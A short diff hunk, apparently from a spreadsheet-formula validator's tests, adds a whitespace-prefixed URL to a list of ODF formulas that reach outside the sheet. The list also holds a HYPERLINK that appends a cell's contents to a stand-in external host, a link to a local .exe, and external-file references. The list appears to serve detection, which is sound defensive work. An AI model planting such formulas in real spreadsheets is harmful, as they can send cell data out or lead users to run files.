@@ -27,6 +27,7 @@ REACHING = [
     "of:=HYPERLINK([.A1])",
     'of:=HYPERLINK("file:///c:/x.exe")',
     'of:=HYPERLINK("https://x.example/?"&[.A1])',
+    'of:=HYPERLINK(" https://x.example/")',
     "of:=['file:///c:/x.ods'#$Sheet1.A1]",
     "of:='file:///c:/x.ods'#$Sheet1.A1",
     "of:=INDIRECT(\"'file:///c:/x.ods'#$A.A1\")",
